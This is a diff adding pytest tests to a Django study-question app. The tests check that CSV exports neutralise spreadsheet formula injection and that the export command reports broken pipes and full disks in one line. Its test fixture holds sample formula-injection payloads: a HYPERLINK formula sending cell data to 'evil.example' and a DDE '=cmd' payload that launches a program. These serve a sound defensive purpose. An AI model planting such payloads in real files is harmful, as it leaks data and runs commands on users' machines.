@@ -7,6 +7,7 @@ import csv
 import io
 import json
 from io import StringIO
+from pathlib import Path
 
 import pytest
 from django.core.management import CommandError, call_command
@@ -405,3 +406,94 @@ def test_fields_are_cleaned_before_they_are_validated(tmp_path):
     run("importquestions", path)
     run("importquestions", path)
     assert StudyQuestion.objects.filter(external_id=None).count() == 7
+
+
+FORMULAS = {
+    "text": '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
+    "answer": "@SUM(1,1)",
+    "explanation": "=cmd|' /C calc'!A0",
+    "external_id": "+1",
+}
+
+
+@pytest.mark.parametrize(
+    "cell",
+    ["-2+3", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\uff1d1+1", "@x", "+x"],
+)
+def test_a_csv_cell_a_spreadsheet_would_run_gets_a_quote_in_front(cell):
+    from studyqueue.transfer import spreadsheet_safe
+
+    assert spreadsheet_safe(cell) == "'" + cell
+    for harmless in ("Because.", "1-2", "", "'=quoted", 42, None, "[]"):
+        assert spreadsheet_safe(harmless) == harmless
+
+
+def test_csv_exports_neutralise_formulas_and_jsonl_stays_exact(tmp_path, admin_client):
+    question = _explained(**FORMULAS, choices=["=1", "-2"])
+    target = tmp_path / "out.csv"
+    run("exportexplanations", "--format", "csv", "--output", str(target))
+    response = admin_client.post(
+        reverse("admin:studyqueue_studyquestion_changelist"),
+        {"action": "download_csv", "_selected_action": [question.pk]},
+    )
+    downloaded = b"".join(response.streaming_content).decode()
+    for body in (target.read_text(), downloaded):
+        (row,) = csv.DictReader(io.StringIO(body))
+        for name, value in FORMULAS.items():
+            assert row[name] == "'" + value, name
+        assert json.loads(row["choices"]) == ["=1", "-2"]
+        assert row["id"] == str(question.pk)
+    out, _ = run("exportexplanations")
+    exact = json.loads(out)
+    assert {name: exact[name] for name in FORMULAS} == FORMULAS
+
+
+@pytest.fixture
+def many_explained() -> None:
+    from django.utils import timezone
+
+    StudyQuestion.objects.bulk_create(
+        StudyQuestion(text=f"Q{n}?", explanation="Because. " * 20, explained_at=timezone.now())
+        for n in range(2000)
+    )  # about 500 KB of JSON Lines: more than a pipe holds
+
+
+def export_process(child_env, python, stdout, *args: str):  # type: ignore[no-untyped-def]
+    import subprocess
+
+    return subprocess.Popen(
+        [python, "manage.py", "exportexplanations", *args],
+        cwd=str(Path(__file__).resolve().parent.parent),
+        env=child_env,
+        stdout=stdout,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+
+
+def test_export_into_head_ends_with_one_line_not_a_traceback(child_env, python, many_explained):
+    import subprocess
+
+    export = export_process(child_env, python, subprocess.PIPE)
+    head = subprocess.run(
+        ["head", "-1"], stdin=export.stdout, capture_output=True, text=True, timeout=120
+    )
+    export.stdout.close()  # only head holds the pipe now
+    _, err = export.communicate(timeout=120)
+    assert json.loads(head.stdout)["text"] == "Q0?"
+    assert err.splitlines() == [
+        "CommandError: cannot write to standard output: Broken pipe; the export stopped"
+    ], err
+    assert export.returncode == 1
+
+
+def test_export_to_a_full_disk_ends_with_one_line(child_env, python, many_explained, tmp_path):
+    with open("/dev/full", "w") as full:
+        export = export_process(child_env, python, full, "--format", "csv")
+        _, err = export.communicate(timeout=120)
+    assert err.splitlines() == [
+        "CommandError: cannot write to standard output: No space left on device; the export stopped"
+    ], err
+    assert export.returncode == 1
+    with pytest.raises(CommandError, match=r"^cannot write /dev/full: No space left on device$"):
+        run("exportexplanations", "--output", "/dev/full")
